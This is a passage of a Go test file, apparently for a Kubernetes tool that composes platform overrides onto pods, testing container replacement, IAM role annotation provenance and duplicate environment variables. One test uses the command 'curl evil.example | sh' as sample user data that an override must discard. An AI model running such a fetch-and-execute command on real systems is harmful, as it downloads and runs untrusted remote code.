	// A field the override does not set, and the API server does not
	// default, is the user's: the override replaces the container whole.
	extra := stored.DeepCopy()
	c, _ = container(extra, "metrics")
	c.Command = []string{"/bin/sh", "-c", "curl evil.example | sh"}
	again, err = Compose(snap, cluster, extra)
	if err != nil {
		t.Fatal(err)
	}
	if got, _ := container(again.Pod, "metrics"); got.Command != nil {
		t.Fatalf("a user field survived an override: %v", got.Command)
	}
}

// TestIAMAnnotationProvenance: where the layers' role replaces a role the
// pod asked for, the explanation says it beat the user's; where the pod
// asked for the role the layers give, it beat nothing.
func TestIAMAnnotationProvenance(t *testing.T) {
	snap := fixtures.Snapshot(t, "prod-a")
	c := Cluster{Name: "prod-a", Pool: "batch"}
	composed, err := Compose(snap, c, fixtures.Pod(t, "executor.yaml"))
	if err != nil {
		t.Fatal(err)
	}
	role := composed.Pod.Annotations[IAMRoleAnnotation]
	if role == "" {
		t.Fatal("the example executor is given no IAM role")
	}
	for asked, wantBeaten := range map[string]bool{"arn:aws:iam::999999999999:role/mine": true, role: false} {
		pod := fixtures.Pod(t, "executor.yaml")
		pod.Annotations = map[string]string{IAMRoleAnnotation: asked}
		res, err := Render(snap, c, pod)
		if err != nil {
			t.Fatal(err)
		}
		var field *overlay.Field
		for _, f := range res.Composition.Provenance.Fields() {
			if f.Path == `metadata.annotations["`+IAMRoleAnnotation+`"]` {
				field = &f
			}
		}
		// Values are rendered as text: a string as JSON's.
		if field == nil || field.Value != strconv.Quote(role) {
			t.Fatalf("asked %q: the annotation's provenance is %+v, want the value %q", asked, field, role)
		}
		beaten := slices.ContainsFunc(field.Beaten, func(b overlay.Contribution) bool { return b.Source.IsUser() && b.Value == strconv.Quote(asked) })
		if beaten != wantBeaten {
			t.Errorf("asked %q: beaten %+v, want the user's beaten: %v", asked, field.Beaten, wantBeaten)
		}
	}
}

// TestLayerEnvReplacesEveryDuplicate: a pod may list an environment
// variable twice (the container runtime takes the last); where a layer
// above the pod sets it, the composed container holds it once, the
// layer's value in the first one's place, whichever of the tenant's
// entries came last.
func TestLayerEnvReplacesEveryDuplicate(t *testing.T) {
	snap := fixtures.SnapshotOf(t, map[string]string{"o": `
tier: ClusterOverrides
config:
  env: [{name: FOO, value: platform}]`})
	pod := fixtures.Pod(t, "executor.yaml")
	spark := sparkContainer(pod, v1alpha1.RoleExecutor)
	if spark < 0 {
		t.Fatal("the example executor has no Spark container")
	}
	pod.Spec.Containers[spark].Env = []corev1.EnvVar{{Name: "FOO", Value: "a"}, {Name: "BAR", Value: "b"}, {Name: "FOO", Value: "c"}}
	res, err := Compose(snap, Cluster{Name: "prod-a", Pool: "batch"}, pod)
	if err != nil {
		t.Fatal(err)
	}
	var got []string
	for _, e := range res.Pod.Spec.Containers[spark].Env {
		if e.Name == "FOO" || e.Name == "BAR" {
			got = append(got, e.Name+"="+e.Value)
		}
	}
	if want := []string{"FOO=platform", "BAR=b"}; !slices.Equal(got, want) {
		t.Errorf("env %q, want %q", got, want)
	}
}
